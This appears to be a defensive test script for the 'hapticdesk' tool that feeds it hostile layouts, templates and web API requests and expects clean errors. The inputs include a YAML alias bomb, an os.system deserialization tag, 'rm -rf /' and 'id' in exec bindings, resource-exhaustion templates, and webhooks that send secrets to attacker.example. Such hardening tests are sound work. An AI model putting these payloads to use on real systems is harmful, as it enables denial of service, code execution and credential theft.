#!/usr/bin/env python3
"""Hostile layouts, templates and page requests: each must get a clear error, in bounded time
and memory, never a traceback or a hang (issue 30; docs/security.md quotes the line).

    python scripts/hostile_inputs.py             # prints the tally line (about 2 minutes)
    python scripts/hostile_inputs.py --verbose   # and one line per input

Three kinds of input:

- layouts given to ``hapticdesk check``, each in a child process with a 60 s timeout (a hang
  is a timeout); a clear error is exit status 2 and ``hapticdesk check: error: FILE:LINE:
  COLUMN: …`` (or ``FILE: …`` for what has no place, a file too large);
- templates in a layout's action, the same way: the issue's, and costlier ones;
- requests to the browser UI's API (in this process, on a layout of its own): a clear error
  is a 4xx answer (or ``/api/check``'s ``ok: false``) whose ``errors`` say what is wrong, the
  layout file left as it was (a 500 or a raised exception is a traceback; more than 60 s a
  hang).

It prints ``bad inputs tried N, clear errors N, tracebacks 0, hangs 0`` and exits 1 when
one input got anything else.
"""

from __future__ import annotations

import argparse
import json
import re
import resource
import shutil
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
EXAMPLES = ROOT / "examples"
TIMEOUT_S = 60.0
BUTTONS = (EXAMPLES / "layouts" / "buttons.yaml").read_text()
TAP = "bindings:\n  - {gesture: tap, region: a, do: log}\n"
REGION_A = "regions: {a: {rect: [0, 0, 0.1, 0.1]}}\n"
HEAD = "desk: kitamura2017\nunits: cm\nregions:\n  b5: {rect: [-2.5, -2.5, 2.5, 2.5]}\n"


def with_template(template: str, gesture: str = "tap") -> str:
    """A layout whose one binding logs ``template`` (JSON quoting is YAML's too)."""
    return (
        HEAD + f"bindings:\n  - gesture: {gesture}\n    region: b5\n"
        f"    do: {{log: {{message: {json.dumps(template)}}}}}\n"
    )


def billion_laughs(levels: int = 9) -> str:
    lines = ["lol0: &lol0 [lol]"]
    for i in range(1, levels + 1):
        lines.append(f"lol{i}: &lol{i} [{', '.join([f'*lol{i - 1}'] * 10)}]")
    return "\n".join(lines) + "\n"


#: templates: the issue's, then each limit's
TEMPLATES = [
    "{{ ((9**999)**999)**999 }}",
    "{{ range(100000)|join('x'*60000) }}",
    "{{ '%999999999d' % 1 }}",
    "{{ '{:>999999999}'.format(1) }}",
    "{% if region == 'b5' %}{{ range(100000)|join('x'*20000) }}{% endif %}",
    "{{ 'x'*60000 }}",
    "{% if force_n > 900 %}{{ range(9000)|join('x'*1000) }}{% endif %}",
    "{{ '{0:{1}}'.format(1, 999999999) }}",
    "{{ '%*d' % (999999999, 1) }}",
    "{{ '%(a)999999999s' % {'a': 1} }}",
    "{{ 'x'|center(999999999) }}",
    "{{ 'abc'|slice(999999999)|list }}",
    "{{ event|tojson(indent=10**8) }}",
    "{{ [1]*10**9 }}",
    "{{ 9**999 }}",
    "{{ 10**(10**10) }}",
    "{{ (2**1000)*(2**1000)*(2**1000) }}",
    "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s ~ ns.s %}"
    "{% endfor %}{{ ns.s|length }}",
    "{% set ns = namespace(s='x') %}{% for i in range(40) %}{% set ns.s = ns.s + ns.s %}"
    "{% endfor %}{{ ns.s|length }}",
    "{% for i in range(9999) %}{% for j in range(9999) %}{% endfor %}{% endfor %}",
    "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(40) }}",
    "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "{{ ([range(10000)|list]*16000)|sum(start=[])|length }}",
    "{{ ([range(10000)|list]*16000)|map('list')|list|length }}",
    "{{ range(9999)|map('center', 16000)|list|length }}",
    "{{ 'x'|indent(999999999) }}",
    "{{ 'x'|wordwrap(999999999) }}",
    "{{ 'x'|replace('', 'y'*16000) }}",
    "{{ '%.999999999f'|format(1.5) }}",
    "{{ lipsum(999999) }}",
    "{{ valeu * 2 }}",
    "{% for i in range(3) %}{{ i }}",
    "{{ value * 1e308 * 1e308 }}{% if value > 0.4 %}{{ 'y'*17000 }}{% endif %}",
    "{% if direction == 'up' %}{{ ('x' ~ region)*9000 }}{% endif %}",
]

DESK = "desk: kitamura2017\n"


def tap_doing(action: str, gesture: str = "tap", extra: str = "") -> str:
    """A layout with region `a` whose one binding does ``action`` (YAML flow text)."""
    return (
        DESK + REGION_A + f"bindings:\n  - {{gesture: {gesture}, region: a, {extra}do: {action}}}\n"
    )


def http(options: str) -> str:
    return tap_doing(f"{{http: {{url: 'http://h/x', {options}}}}}")


KEYS_UNDER_1_MB = (DESK + "".join(f"k{i}: {i}\n" for i in range(120_000)))[:999_990]

#: whole layouts given to `hapticdesk check`
LAYOUTS: list[tuple[str, str | bytes]] = [
    ("alias bomb", DESK + billion_laughs() + TAP),
    ("recursive alias", DESK + "bindings: &b [*b]\n"),
    ("400-digit number", DESK + "regions: {a: {rect: [0, 0, 0.1, " + "9" * 400 + "]}}\n" + TAP),
    ("Latin-1", (DESK + "# café\n").encode("latin-1") + TAP.encode()),
    ("UTF-16", (DESK + TAP).encode("utf-16")),
    ("binary", bytes(range(256)) * 4),
    ("control character", DESK.encode() + b"bindings: \x07\n"),
    ("20 000 open brackets", DESK.encode() + b"bindings: " + b"[" * 20_000 + b"\n"),
    ("a list as a key", DESK + "? [a]\n: 1\n"),
    ("a !!set", DESK + "bindings: !!set {a}\n"),
    ("a !!python/object", DESK + "x: !!python/object/apply:os.system ['id']\n"),
    (
        "self-crossing polygon",
        DESK
        + "regions:\n  bow: {polygon: [[0, 0], [0.1, 0.1], [0.1, 0], [0, 0.1]]}\n"
        + TAP.replace("region: a", "region: bow"),
    ),
    (
        "radius 1e200",
        DESK + "units: cm\nregions:\n  a: {circle: {center: [0, 0], radius: 1e200}}\n" + TAP,
    ),
    ("rect to 1e308", DESK + "regions: {a: {rect: [0, 0, 1e308, 0.1]}}\n" + TAP),
    ("a NaN corner", DESK + "regions: {a: {rect: [0, 0, .nan, 0.1]}}\n" + TAP),
    (
        "slider axis to 1e300",
        DESK + "regions:\n  a: {rect: [0, 0, 0.1, 0.1], axis: [[0, 0], [1e300, 0]]}\n"
        "bindings:\n  - {gesture: slide, region: a, do: log}\n",
    ),
    (
        "repeat every 1e-300 s",
        tap_doing("log", "long_press", "repeat: true, interval_s: 1e-300, "),
    ),
    ("a file of 50 MB", b"k: 1\n" * 10_000_000),
    ("120,000 keys under 1 MB", KEYS_UNDER_1_MB),
    ("an empty file", b""),
    ("not a mapping", "- a\n- b\n"),
    ("an unknown action", tap_doing("{shell: {cmd: id}}")),
    ("an unknown gesture", tap_doing("log", "lick")),
    ("a password in a webhook's URL", tap_doing("{http: {url: 'http://u:p@h/x'}}")),
    ("a token written in a header", http("headers: {Authorization: 'Bearer abc'}")),
    ("a header from two sources", http("headers: {Authorization: {env: A, file: b}}")),
    ("exec with a text argv", tap_doing("{exec: {argv: 'rm -rf /'}}")),
    ("a password in the broker URL", DESK + REGION_A + TAP + "mqtt: {broker: 'mqtt://u:s@h'}\n"),
    (
        "a password variable that is not set",
        DESK
        + REGION_A
        + TAP
        + "mqtt: {broker: 'mqtt://h', username: u, password_env: HAPTICDESK_NO_SUCH_VARIABLE}\n",
    ),
    ("a topic with a wildcard", tap_doing("{mqtt: {topic: 'lamp/#'}}")),
    ("a desk that is /dev/zero", "desk: /dev/zero\n" + REGION_A + TAP),
    ("a desk that is a folder", "desk: /\n" + REGION_A + TAP),
    ("a desk that does not exist", "desk: no-such-desk\n" + REGION_A + TAP),
    ("a missing template folder", DESK + "templates: nowhere\n" + REGION_A + TAP),
    ("a missing named layout", DESK + "layouts: {evening: nowhere.yaml}\n" + REGION_A + TAP),
    ("furlongs", DESK + "units: furlong\n" + REGION_A + TAP),
    ("a negative hold", tap_doing("log", "long_press", "hold_s: -1, ")),
    ("two levels of one force", tap_doing("log", "press", "levels: {a: 5, b: 5}, ")),
    ("a region name with a space", DESK + "regions: {'a b': {rect: [0, 0, 0.1, 0.1]}}\n" + TAP),
    ("tabs for indentation", DESK + "regions:\n\ta: {rect: [0, 0, 0.1, 0.1]}\n"),
    ("a YAML 1.1 boolean as a key", tap_doing("log", extra="on: 1, ")),
]


# --- the runs ---------------------------------------------------------------------------------


class Tally:
    def __init__(self, verbose: bool) -> None:
        self.tried = self.clear = self.tracebacks = self.hangs = 0
        self.other: list[str] = []
        self.slowest = (0.0, "")
        self.verbose = verbose

    def add(self, name: str, outcome: str, said: str, seconds: float) -> None:
        self.tried += 1
        if outcome == "clear":
            self.clear += 1
        elif outcome == "traceback":
            self.tracebacks += 1
        elif outcome == "hang":
            self.hangs += 1
        else:
            self.other.append(f"{name}: {said}")
        self.slowest = max(self.slowest, (seconds, name))
        if self.verbose:
            print(f"{outcome:9} {seconds:5.1f} s  {name}: {said[:150]}")


CHECK_PATTERN = re.compile(r"hapticdesk check: error: \S+?(:\d+:\d+)?: ")


def check_layout(folder: Path, name: str, content: str | bytes, tally: Tally) -> None:
    path = folder / "layout.yaml"
    path.write_bytes(content.encode() if isinstance(content, str) else content)
    started = time.monotonic()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "hapticdesk", "check", str(path)],
            capture_output=True,
            text=True,
            timeout=TIMEOUT_S,
        )
    except subprocess.TimeoutExpired:
        tally.add(name, "hang", f"no answer in {TIMEOUT_S:g} s", time.monotonic() - started)
        return
    seconds = time.monotonic() - started
    out = done.stderr + done.stdout
    if "Traceback" in out:
        tally.add(name, "traceback", out.strip().splitlines()[-1], seconds)
    elif done.returncode == 2 and CHECK_PATTERN.search(out):
        tally.add(name, "clear", out.strip().splitlines()[-1], seconds)
    else:
        tally.add(name, "unclear", f"status {done.returncode}: {out.strip()[-200:]}", seconds)


def ui_requests(folder: Path) -> list[tuple[str, Callable[[Any], Any]]]:
    """(name, call(client) -> response) of the page's hostile requests."""
    outside = folder.parent / "outside"
    (outside / "circle").mkdir(parents=True, exist_ok=True)
    (outside / "secret.yaml").write_text("desk: kitamura2017\n")
    secret_http = (
        "  - {gesture: tap, region: b1, do: {http: {url: 'http://attacker.example/x', "
        "headers: {Authorization: {env: MQTT_PASSWORD}}}}}\n"
    )

    def save(extra: str = "", replace: tuple[str, str] = ("", "")) -> Callable[[Any], Any]:
        text = BUTTONS.replace(*replace) + extra
        return lambda client: client.put("/api/layout", content=text)

    def check(line: str) -> Callable[[Any], Any]:
        text = BUTTONS.replace("desk: kitamura2017\n", line)
        return lambda client: client.post("/api/check", content=text)

    def start(points: Any) -> Callable[[Any], Any]:
        return lambda client: client.post("/api/setup/start", json={"points": points})

    def post(path: str, **kw: Any) -> Callable[[Any], Any]:
        return lambda client: client.post(path, **kw)

    edit = {"op": "remove_region", "name": "a", "text": "[" * 500}
    costly = "  - {gesture: tap, region: b3, do: {log: {message: \"{{ 'x'*60000 }}\"}}}\n"
    return [
        ("page: an http header from the environment", save(secret_http)),
        ("page: an http header from a file", save(secret_http.replace("env: MQTT_", "file: /"))),
        ("page: an exec", save("  - {gesture: tap, region: b2, do: {exec: {argv: [id]}}}\n")),
        ("page: a broker", save("mqtt: {broker: 'mqtt://attacker.example'}\n")),
        (
            "page: another layout file",
            save(replace=("bindings:", "layouts: {x: buttons.yaml}\nbindings:")),
        ),
        ("page: a desk outside", check(f"desk: {outside / 'secret.yaml'}\n")),
        ("page: a desk outside, missing", check(f"desk: {outside / 'missing.yaml'}\n")),
        ("page: templates outside", check(f"{DESK}templates: {outside}\n")),
        ("page: a template file outside", check(f"{DESK}templates: {{x: {outside / 'circle'}}}\n")),
        (
            "page: a named layout outside",
            check(f"{DESK}layouts: {{x: {outside / 'secret.yaml'}}}\n"),
        ),
        ("page: a costly template", save(costly)),
        ("page: set-up without points", post("/api/setup/start", json={})),
        ("page: set-up points as text", start("abc")),
        ("page: set-up with one point", start([[0, 0]])),
        ("page: set-up points of the wrong shape", start([[0, 0], [1], "x", [1, 2, 3]])),
        ("page: set-up points far away", start([[0, 0], [1e300, 0], [0, 0], [0, 0]])),
        ("page: set-up with 100,000 points", start([[0, 0]] * 100_000)),
        ("page: a body that is not JSON", post("/api/setup/start", content=b"\xff{")),
        ("page: JSON nested 100,000 deep", post("/api/edit", content=b"[" * 100_000)),
        ("page: a body of 2 MB", post("/api/check", content=b"x" * 2_000_000)),
        ("page: an unknown edit", post("/api/edit", json={"op": "format_disk", "text": BUTTONS})),
        ("page: an edit nested 500 deep", post("/api/edit", json=edit)),
        (
            "page: another site's Origin",
            lambda c: c.put("/api/layout", content=BUTTONS, headers={"origin": "http://a.example"}),
        ),
        (
            "page: a rebound Host",
            lambda c: c.get("/api/layout", headers={"host": "attacker.example:8765"}),
        ),
    ]


def run_ui(folder: Path, tally: Tally) -> None:
    import warnings

    warnings.filterwarnings("ignore", message=".*httpx.*", category=DeprecationWarning)
    from starlette.testclient import TestClient

    from hapticdesk.files.profile_reader import load_profile
    from hapticdesk.plugin_loading import load_registry
    from hapticdesk.plugins.ui.server import UiServer

    layout = folder / "buttons.yaml"
    registry = load_registry(entry_points=False)
    for name, call in ui_requests(folder):
        layout.write_text(BUTTONS)
        server = UiServer(layout, registry)
        server.runtime = SimpleNamespace(  # (what the set-up check reads of a run)
            scene=SimpleNamespace(profile=load_profile("kitamura2017")), block_taps=()
        )
        client = TestClient(server.app(), base_url="http://127.0.0.1:8765")
        result: dict[str, Any] = {}

        def ask(
            client: Any = client, call: Callable[[Any], Any] = call, result: dict = result
        ) -> None:
            try:
                result["answer"] = call(client)
            except Exception as err:  # a raised exception is a traceback the user would see
                result["error"] = f"{type(err).__name__}: {err}"

        started = time.monotonic()
        thread = threading.Thread(target=ask, daemon=True)
        thread.start()
        thread.join(TIMEOUT_S)
        seconds = time.monotonic() - started
        if thread.is_alive():
            tally.add(name, "hang", f"no answer in {TIMEOUT_S:g} s", seconds)
            continue
        if "error" in result:
            tally.add(name, "traceback", result["error"], seconds)
            continue
        answer = result["answer"]
        said, refused = answer.text, False
        try:
            body = answer.json()
            said, refused = body["errors"][0]["message"], body["ok"] is False
        except (ValueError, KeyError, IndexError, TypeError):
            pass
        # (`/api/check` answers 200 with `ok: false` and the errors: its contract)
        if answer.status_code >= 500:
            tally.add(name, "traceback", f"{answer.status_code}: {said}", seconds)
        elif (400 <= answer.status_code < 500 or refused) and said.strip():
            tally.add(name, "clear", f"{answer.status_code}: {said}", seconds)
        else:
            tally.add(name, "unclear", f"{answer.status_code}: {said[:200]}", seconds)
        if layout.read_text() != BUTTONS:
            tally.other.append(f"{name}: the layout file was changed")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--verbose", action="store_true", help="a line per input")
    args = parser.parse_args()
    tally = Tally(args.verbose)
    started = time.monotonic()
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "desk"
        folder.mkdir()
        for template in TEMPLATES:
            check_layout(folder, f"template {template[:60]}", with_template(template), tally)
        for name, content in LAYOUTS:
            check_layout(folder, name, content, tally)
        shutil.copy(EXAMPLES / "layouts" / "buttons.yaml", folder / "buttons.yaml")
        run_ui(folder, tally)
    children_mb = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    print(
        f"bad inputs tried {tally.tried}, clear errors {tally.clear}, tracebacks "
        f"{tally.tracebacks}, hangs {tally.hangs}"
    )
    print(
        f"({time.monotonic() - started:.0f} s in all; slowest {tally.slowest[0]:.1f} s: "
        f"{tally.slowest[1]}; largest check process {children_mb:.0f} MB)"
    )
    for line in tally.other:
        print(f"not clear: {line}")
    ok = tally.clear == tally.tried and not tally.other
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
